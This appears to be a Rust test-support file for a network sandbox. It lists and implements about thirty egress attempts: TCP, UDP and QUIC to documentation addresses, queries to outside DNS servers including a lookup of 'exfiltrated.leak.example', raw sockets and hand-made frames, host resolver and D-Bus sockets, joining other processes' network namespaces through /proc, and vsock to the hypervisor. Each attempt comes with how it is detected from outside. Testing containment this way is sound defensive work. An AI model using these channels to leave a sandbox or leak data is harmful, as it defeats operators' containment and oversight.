//! Ways out of a network, each tried by `attacker` and known again from outside by where it was bound for.
//!
//! Every address is one of documentation (RFC 5737, RFC 3849) or of a public resolver; the tests send only in networks
//! of their own that end in the test.

use std::io;
use std::net::{IpAddr, SocketAddr, TcpStream, ToSocketAddrs, UdpSocket};
use std::os::fd::{AsFd, OwnedFd};
use std::os::linux::net::SocketAddrExt;
use std::os::unix::net::{SocketAddr as UnixAddr, UnixStream};
use std::time::Duration;

use pnet_datalink::{Channel, interfaces};
use rustix::net::{
    AddressFamily, Protocol, SendFlags, SocketFlags, SocketType, ipproto, sendto, socket_with,
};
use rustix::thread::{LinkNameSpaceType, move_into_link_name_space};

/// One way out.
pub struct Way {
    /// What it is.
    pub name: &'static str,
    /// Whether it takes a privilege outside already.
    pub privileged: bool,
    /// How it shows outside.
    pub shows: Shows,
    /// Tries it.
    pub attempt: fn(&Way) -> io::Result<()>,
}

/// How a way that works shows outside.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Shows {
    /// A frame to this address, or of [`FRAME_TYPE`].
    Frame(&'static str),
    /// A connection or datagram at a listener of the host.
    Listener(&'static str),
    /// The attempt says so itself; what a machine does not have or guards is closed outside too.
    Success,
}

/// Ethernet type of frames made by hand: for local experiments (IEEE 802).
pub const FRAME_TYPE: &str = "0x88b5";

/// Name of a socket of the host in the abstract namespace.
pub const ABSTRACT: &str = "actpass-tests-host";

/// Where the host's resolvers listen in the file system.
pub const RESOLVER_SOCKETS: [&str; 4] = [
    "/run/systemd/resolve/io.systemd.Resolve",
    "/run/nscd/socket",
    "/run/avahi-daemon/socket",
    "/run/dbus/system_bus_socket",
];

/// Where the host listens on its own loopback interface: a stub resolver, and any service.
pub const LOOPBACK: [&str; 3] = ["127.0.0.53:53", "127.0.0.1:7777", "[::1]:7777"];

/// The host's resolver, as its resolv.conf says.
pub const RESOLVER: &str = "203.0.113.53";

/// Environment variable with the id of a process in the host's network.
pub const HOST_PROCESS: &str = "ACTPASSTESTS_HOST_PROCESS";

/// All of them.
pub const WAYS: &[Way] = &[
    way("TCP over IPv4", Shows::Frame("203.0.113.10"), |w| {
        tcp(w, 443)
    }),
    way("TCP over IPv6", Shows::Frame("2001:db8:ff::10"), |w| {
        tcp(w, 443)
    }),
    way("UDP over IPv4", Shows::Frame("203.0.113.11"), |w| {
        udp(w, 9999, b"out")
    }),
    way("UDP over IPv6", Shows::Frame("2001:db8:ff::11"), |w| {
        udp(w, 9999, b"out")
    }),
    way("QUIC over IPv4", Shows::Frame("203.0.113.12"), |w| {
        udp(w, 443, QUIC)
    }),
    way("QUIC over IPv6", Shows::Frame("2001:db8:ff::12"), |w| {
        udp(w, 443, QUIC)
    }),
    way("another DNS server", Shows::Frame("8.8.8.8"), |w| {
        udp(w, 53, QUERY)
    }),
    way(
        "another DNS server over TCP",
        Shows::Frame("8.8.4.4"),
        |w| tcp(w, 53),
    ),
    way(
        "another DNS server over IPv6",
        Shows::Frame("2001:4860:4860::8888"),
        |w| udp(w, 53, QUERY),
    ),
    way("the host's DNS server", Shows::Frame(RESOLVER), |w| {
        udp(w, 53, QUERY)
    }),
    way(
        "the host's DNS server over TCP",
        Shows::Frame(RESOLVER),
        |w| tcp(w, 53),
    ),
    way("the C library's resolver", Shows::Frame(RESOLVER), |_| {
        "exfiltrated.leak.example:443".to_socket_addrs().map(|_| ())
    }),
    way("mDNS", Shows::Frame("224.0.0.251"), |w| udp(w, 5353, QUERY)),
    way("broadcast", Shows::Frame("255.255.255.255"), |w| {
        udp(w, 67, b"out")
    }),
    way("ping over IPv4", Shows::Frame("203.0.113.13"), |w| {
        icmp(w, SocketType::DGRAM)
    }),
    way("ping over IPv6", Shows::Frame("2001:db8:ff::13"), |w| {
        icmp(w, SocketType::DGRAM)
    }),
    privileged("raw ICMP", Shows::Frame("203.0.113.14"), |w| {
        icmp(w, SocketType::RAW)
    }),
    privileged("raw ICMPv6", Shows::Frame("2001:db8:ff::14"), |w| {
        icmp(w, SocketType::RAW)
    }),
    privileged("raw UDP", Shows::Frame("203.0.113.15"), |w| {
        raw(
            w,
            AddressFamily::INET,
            ipproto::UDP,
            &[0, 53, 0, 53, 0, 8, 0, 0],
        )
    }),
    privileged("frames by hand", Shows::Frame(FRAME_TYPE), |_| frames()),
    privileged(
        "from the host's network namespace",
        Shows::Frame("203.0.113.16"),
        from_the_host,
    ),
    way(
        "a socket of the host in the abstract namespace",
        Shows::Listener(ABSTRACT),
        |_| UnixStream::connect_addr(&UnixAddr::from_abstract_name(ABSTRACT)?).map(|_| ()),
    ),
    resolver_socket("systemd-resolved", RESOLVER_SOCKETS[0]),
    resolver_socket("nscd", RESOLVER_SOCKETS[1]),
    way(
        "nscd at its other place",
        Shows::Listener(RESOLVER_SOCKETS[1]),
        |_| UnixStream::connect("/var/run/nscd/socket").map(|_| ()),
    ),
    resolver_socket("Avahi", RESOLVER_SOCKETS[2]),
    resolver_socket("D-Bus", RESOLVER_SOCKETS[3]),
    way(
        "a stub resolver on the host's loopback",
        Shows::Listener(LOOPBACK[0]),
        loopback_udp,
    ),
    way(
        "a service on the host's loopback",
        Shows::Listener(LOOPBACK[1]),
        loopback_tcp,
    ),
    way(
        "a service on the host's loopback, IPv6",
        Shows::Listener(LOOPBACK[2]),
        loopback_tcp,
    ),
    privileged("the network namespace of process 1", Shows::Success, |_| {
        enter("1")
    }),
    // Not bound to a network namespace at all: it leads to the machine below this one. Nothing is sent there.
    way("a socket to the hypervisor", Shows::Success, |_| {
        made(AddressFamily::VSOCK, SocketType::STREAM, None).map(|_| ())
    }),
];

const fn way(name: &'static str, shows: Shows, attempt: fn(&Way) -> io::Result<()>) -> Way {
    Way {
        name,
        privileged: false,
        shows,
        attempt,
    }
}

const fn privileged(name: &'static str, shows: Shows, attempt: fn(&Way) -> io::Result<()>) -> Way {
    Way {
        name,
        privileged: true,
        shows,
        attempt,
    }
}

const fn resolver_socket(name: &'static str, path: &'static str) -> Way {
    way(name, Shows::Listener(path), |way| match way.shows {
        Shows::Listener(path) => UnixStream::connect(path).map(|_| ()),
        _ => Err(io::Error::other("no path")),
    })
}

/// Long enough for a connection on this machine; where nobody answers, the first frame has left by then.
const PATIENCE: Duration = Duration::from_millis(100);

/// First bytes of a QUIC Initial packet of version 1 (RFC 9000 section 17.2.2).
const QUIC: &[u8] = &[
    0xc3, 0, 0, 0, 1, 8, 1, 2, 3, 4, 5, 6, 7, 8, 0, 0, 0x44, 0x9e,
];

/// A DNS query for the addresses of `leak`.
const QUERY: &[u8] = b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0\x04leak\0\0\x01\0\x01";

impl Way {
    fn address(&self, port: u16) -> io::Result<SocketAddr> {
        let (Shows::Frame(text) | Shows::Listener(text)) = self.shows else {
            return Err(io::Error::other("no address"));
        };
        let address: IpAddr = text.parse().map_err(io::Error::other)?;
        Ok(SocketAddr::new(address, port))
    }
}

fn tcp(way: &Way, port: u16) -> io::Result<()> {
    TcpStream::connect_timeout(&way.address(port)?, PATIENCE).map(|_| ())
}

fn udp(way: &Way, port: u16, bytes: &[u8]) -> io::Result<()> {
    send_udp(way.address(port)?, bytes)
}

fn send_udp(to: SocketAddr, bytes: &[u8]) -> io::Result<()> {
    let any = if to.is_ipv4() { "0.0.0.0:0" } else { "[::]:0" };
    let socket = UdpSocket::bind(any)?;
    socket.set_broadcast(true)?;
    socket.send_to(bytes, to).map(|_| ())
}

fn loopback_udp(way: &Way) -> io::Result<()> {
    send_udp(listener(way)?, QUERY)
}

fn loopback_tcp(way: &Way) -> io::Result<()> {
    TcpStream::connect_timeout(&listener(way)?, PATIENCE).map(|_| ())
}

fn listener(way: &Way) -> io::Result<SocketAddr> {
    match way.shows {
        Shows::Listener(text) => text.parse().map_err(io::Error::other),
        _ => Err(io::Error::other("no listener")),
    }
}

/// An echo request; the kernel fills in a ping socket's checksum, and that of ICMPv6.
fn icmp(way: &Way, kind: SocketType) -> io::Result<()> {
    let address = way.address(0)?;
    let (family, protocol, echo) = match address {
        SocketAddr::V4(_) => (
            AddressFamily::INET,
            ipproto::ICMP,
            [8, 0, 0xf7, 0xff, 0, 0, 0, 0],
        ),
        SocketAddr::V6(_) => (
            AddressFamily::INET6,
            ipproto::ICMPV6,
            [128, 0, 0, 0, 0, 0, 0, 0],
        ),
    };
    let socket = made(family, kind, Some(protocol))?;
    sendto(&socket, &echo, SendFlags::empty(), &address)?;
    Ok(())
}

fn raw(way: &Way, family: AddressFamily, protocol: Protocol, bytes: &[u8]) -> io::Result<()> {
    let socket = made(family, SocketType::RAW, Some(protocol))?;
    sendto(&socket, bytes, SendFlags::empty(), &way.address(0)?)?;
    Ok(())
}

fn made(
    family: AddressFamily,
    kind: SocketType,
    protocol: Option<Protocol>,
) -> io::Result<OwnedFd> {
    Ok(socket_with(family, kind, SocketFlags::CLOEXEC, protocol)?)
}

/// A broadcast frame on every interface there is.
fn frames() -> io::Result<()> {
    let mut frame = vec![0xff; 6];
    frame.extend([2, 0, 0, 0, 0, 1, 0x88, 0xb5]);
    frame.extend([b'x'; 50]);
    let mut last = Err(io::Error::other("no interface but `lo`"));
    for interface in interfaces().iter().filter(|it| !it.is_loopback()) {
        last = match pnet_datalink::channel(interface, pnet_datalink::Config::default())? {
            Channel::Ethernet(mut sender, _) => sender
                .send_to(&frame, None)
                .unwrap_or_else(|| Err(io::Error::other("not sent"))),
            _ => Err(io::Error::other("no channel")),
        };
    }
    last
}

/// Joins the network of the process that the test names, and sends from there.
fn from_the_host(way: &Way) -> io::Result<()> {
    let process = std::env::var(HOST_PROCESS).map_err(io::Error::other)?;
    let to = way.address(9)?;
    joined(process, move || send_udp(to, b"out"))
}

/// Joins the network of a process, and does nothing there.
fn enter(process: &str) -> io::Result<()> {
    joined(process.to_owned(), || Ok(()))
}

/// A namespace is a thread's: this one ends with the attempt, so that the others go on where they were.
fn joined(
    process: String,
    there: impl FnOnce() -> io::Result<()> + Send + 'static,
) -> io::Result<()> {
    let attempt = move || {
        let namespace = std::fs::File::open(format!("/proc/{process}/ns/net"))?;
        move_into_link_name_space(namespace.as_fd(), Some(LinkNameSpaceType::Network))?;
        there()
    };
    let ended = std::thread::spawn(attempt).join();
    ended.map_err(|_| io::Error::other("panicked"))?
}
